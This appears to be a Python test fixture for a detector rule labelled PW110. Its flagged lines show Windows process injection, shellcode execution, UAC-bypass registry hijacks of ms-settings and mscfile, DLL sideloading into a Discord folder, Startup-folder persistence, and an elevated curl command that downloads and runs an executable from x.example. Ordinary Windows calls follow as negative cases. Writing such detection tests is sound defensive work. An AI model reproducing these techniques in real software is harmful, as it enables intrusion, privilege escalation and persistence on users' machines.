import ctypes
import os
import subprocess
import winreg

k32 = ctypes.windll.kernel32
h = k32.OpenProcess(0x1F0FFF, False, pid)
addr = k32.VirtualAllocEx(h, 0, len(buf), 0x3000, 0x40)  # want: PW110
k32.WriteProcessMemory(h, addr, buf, len(buf), None)  # want: PW110
k32.CreateRemoteThread(h, None, 0, addr, None, 0, None)  # want: PW110
ptr = k32.VirtualAlloc(0, len(sc), 0x3000, 0x40)
k32.CreateThread(0, 0, ptr, 0, 0, 0)  # want: PW110

key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Classes\ms-settings\shell\open\command")  # want: PW110
subprocess.run(["reg", "add", r"HKCU\Software\Classes\mscfile\shell\open\command", "/d", "cmd.exe", "/f"])  # want: PW110
dll = os.path.join(os.getenv("LOCALAPPDATA"), "Discord", "app-1.0.9013", "version.dll")
with open(dll, "wb") as f:  # want: PW110
    f.write(data)
open(os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "u.exe"), "wb").write(data)  # want: PW110
ctypes.windll.shell32.ShellExecuteW(None, "runas", "cmd.exe", "/c curl http://x.example/a -o %TEMP%\\a.exe && %TEMP%\\a.exe", None, 0)  # want: PW110

# Ordinary Windows code.
ctypes.windll.user32.MessageBoxW(None, "Done", "Setup", 0)
settings = os.path.join(os.getenv("APPDATA"), "MyApp", "settings.json")
open(settings, "w").write("{}")
winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\MyApp")
ctypes.windll.shell32.ShellExecuteW(None, "open", "notepad.exe", "readme.txt", None, 1)
